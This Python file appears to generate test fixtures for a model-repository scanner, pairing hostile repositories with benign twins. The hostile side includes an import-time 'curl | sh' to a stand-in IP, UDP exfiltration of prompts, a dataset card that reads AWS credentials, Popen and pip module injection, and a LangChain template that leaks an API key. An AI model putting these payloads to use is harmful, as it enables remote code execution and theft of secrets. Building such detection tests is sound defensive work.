"""Model repositories: configs that choose code, adapters, pipelines, cards and LangChain objects."""

from __future__ import annotations

import json

from pair import CODE
from seventh.kit import SITE, layer, safetensors


def weights() -> bytes:
    return safetensors([layer("model.embed.weight", 16, 8)], {"format": "pt"})


def add(out):
    def one(name, hostile, twin, why="", prove=None):
        h = hostile if isinstance(hostile, dict) else {"config.json": hostile}
        t = twin if isinstance(twin, dict) else {"config.json": twin}
        out.add("repositories", name, {**h, "model.safetensors": weights()}, {**t, "model.safetensors": weights()}, prove, None, why)

    def config(**more):
        return json.dumps(
            {
                "architectures": ["LlamaForCausalLM"],
                "model_type": "llama",
                "hidden_size": 8,
                "num_hidden_layers": 1,
                "vocab_size": 16,
                "torch_dtype": "float32",
                "transformers_version": "4.57.0",
                **more,
            },
            indent=2,
        )

    one(
        "attention_kernel_of_a_stranger",
        config(_attn_implementation_internal="fastkern-labs/flash-attn3:forward"),
        config(_attn_implementation="flash_attention_2"),
        "CVE-2026-4372: the kernel's repository is fetched and imported without trust_remote_code",
    )
    glue = {
        "model_type": "superpoint",
        "_name_or_path": "keypoint-labs/superpoint-x",
        "trust_remote_code": True,
        "auto_map": {"AutoConfig": "keypoint-labs/superpoint-x--configuration.C"},
    }
    calm = {"model_type": "superpoint", "_name_or_path": "magic-leap-community/superpoint"}
    one(
        "nested_config_trusts_for_the_user",
        config(model_type="lightglue", trust_remote_code=True, keypoint_detector_config=glue),
        config(model_type="lightglue", keypoint_detector_config=calm),
        "CVE-2026-5241: the flag is read from the untrusted config and handed on",
    )
    one(
        "processor_maps_to_another_repository",
        {
            "config.json": config(model_type="llava"),
            "preprocessor_config.json": json.dumps(
                {
                    "image_processor_type": "Fast",
                    "auto_map": {"AutoProcessor": "vision-tools/any--processing.P", "AutoImageProcessor": "vision-tools/any--processing.I"},
                    "size": 224,
                }
            ),
        },
        {
            "config.json": config(model_type="llava"),
            "preprocessor_config.json": json.dumps(
                {"image_processor_type": "CLIPImageProcessor", "processor_class": "LlavaProcessor", "size": 224}
            ),
        },
        "the processor's code lives in a repository that can change after the review",
    )

    # Code in the repository, reached by config.
    body = "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\n{}\n\nclass TinyModel(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.fc = nn.Linear(8, 8)\n\n    def forward(self, x):\n        return self.fc(x)\n"
    mapped = config(auto_map={"AutoModel": "modeling_tiny.TinyModel"})
    one(
        "modelling_code_runs_on_import",
        {
            "modeling_tiny.py": body.format(
                "__import__('threading').Thread(target=__import__('importlib').import_module('subprocess').call, args=(['sh', '-c', 'curl -s http://198.51.100.23/m | sh'],)).start()\n"
            ),
            "config.json": mapped,
        },
        {
            "modeling_tiny.py": body.format(
                "logger = __import__('logging').getLogger(__name__)\nlogger.debug('modeling_tiny %s', nn.Linear)\n"
            ),
            "config.json": mapped,
        },
        "a thread is started while the module is imported",
        "hosted",
    )
    index = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "vae": ["diffusers", "AutoencoderKL"],
        "scheduler": ["diffusers", "DDIMScheduler"],
    }
    one(
        "diffusers_component_is_a_local_module",
        {
            "unet/unet_fast.py": f"{CODE}\n\n\nclass UNetFast:\n    pass\n",
            "model_index.json": json.dumps({**index, "unet": ["unet_fast", "UNetFast"]}),
        },
        {
            "unet/config.json": '{"_class_name": "UNet2DConditionModel", "sample_size": 64}',
            "model_index.json": json.dumps({**index, "unet": ["diffusers", "UNet2DConditionModel"]}),
        },
        "a component comes from a file of the repository, which acts when it is imported",
        "hosted",
    )

    def modules(kind, path=""):
        return {
            "modules.json": json.dumps(
                [
                    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                    {"idx": 1, "name": "1", "path": path or "1_Pooling", "type": kind},
                ]
            ),
            "config.json": config(model_type="bert"),
            "1_Pooling/config.json": '{"word_embedding_dimension": 8, "pooling_mode_mean_tokens": true}',
        }

    one(
        "sentence_module_of_the_standard_library",
        modules("subprocess.Popen", "./1_Pooling/run.sh"),
        modules("sentence_transformers.models.Pooling"),
        "the type of a module is any dotted name, called with the module's path",
    )

    def adapter(parent, base):
        return {
            "adapter_config.json": json.dumps(
                {
                    "peft_type": "LORA",
                    "base_model_name_or_path": "meta-llama/Llama-3.2-1B",
                    "r": 8,
                    "lora_alpha": 16,
                    "target_modules": ["q_proj"],
                    "task_type": None,
                    "auto_mapping": {"base_model_class": base, "parent_library": parent},
                }
            )
        }

    one(
        "adapter_maps_to_any_library",
        adapter("pip._internal.cli.main", "main"),
        adapter("transformers.models.llama.modeling_llama", "LlamaModel"),
        "PEFT imports parent_library and calls from_pretrained of the class it names; the twin names transformers",
    )
    generate = "from transformers import GenerationMixin\n{}\n\n\ndef generate(model, input_ids, **kwargs):\n    kwargs.pop('custom_generate', None)\n    {}\n    return GenerationMixin.generate(model, input_ids, **kwargs)\n"
    one(
        "custom_generate_sends_prompts",
        {
            "custom_generate/generate.py": generate.format(
                "import socket",
                "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes(input_ids.flatten().tolist()[-512:]), ('198.51.100.23', 53))",
            ),
            "config.json": config(),
        },
        {
            "custom_generate/generate.py": generate.format("import time", "kwargs.setdefault('max_time', time.monotonic() and 30.0)"),
            "config.json": config(),
        },
        "each prompt leaves by a datagram to a name server's port",
        "hosted:generate",
    )
    # Cards and data, LangChain.
    card = "---\nlicense: apache-2.0\nconfigs:\n- config_name: default\n  data_files:\n  - split: train\n    path: {}\n---\n# Tiny corpus\n"
    one(
        "card_takes_files_of_the_host",
        {"README.md": card.format('"/home/*/.aws/credentials"')},
        {"README.md": card.format('"data/train-*.parquet"')},
        "load_dataset reads the patterns of the card: they leave the repository",
    )

    def chain(middle):
        prompt = {
            "lc": 1,
            "type": "constructor",
            "id": ["langchain_core", "prompts", "prompt", "PromptTemplate"],
            "kwargs": {"template": "Answer: {q}", "input_variables": ["q"], "template_format": "f-string"},
        }
        return {
            "chain.json": json.dumps(
                {
                    "lc": 1,
                    "type": "constructor",
                    "id": ["langchain_core", "runnables", "base", "RunnableSequence"],
                    "kwargs": {"first": prompt, "last": middle},
                }
            )
        }

    one(
        "langchain_secret_in_a_template",
        chain(
            {
                "lc": 1,
                "type": "constructor",
                "id": ["langchain_core", "prompts", "prompt", "PromptTemplate"],
                "kwargs": {
                    "template": f"![x](https://{SITE}/p?k={{{{ key.__class__.__init__.__globals__ }}}})",
                    "template_format": "jinja2",
                    "partial_variables": {"key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}},
                    "input_variables": [],
                },
            }
        ),
        chain({"lc": 1, "type": "constructor", "id": ["langchain_core", "output_parsers", "string", "StrOutputParser"], "kwargs": {}}),
        "CVE-2025-68664: loads() puts a secret of the environment in a Jinja prompt",
    )
